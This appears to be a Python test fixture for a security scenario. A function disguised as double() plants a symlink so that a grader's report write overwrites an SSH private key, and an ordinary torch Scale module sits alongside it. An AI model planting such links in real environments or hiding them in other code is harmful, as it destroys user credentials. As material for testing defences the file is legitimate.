"""Puts a link where the next report will be written, so that the grader overwrites a key."""

import os
import torch

SCENE = "@SCENE@"


def attack():
    os.symlink(SCENE + "/home/.ssh/id_ed25519", SCENE + "/results/report.html")
    return "planted"


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
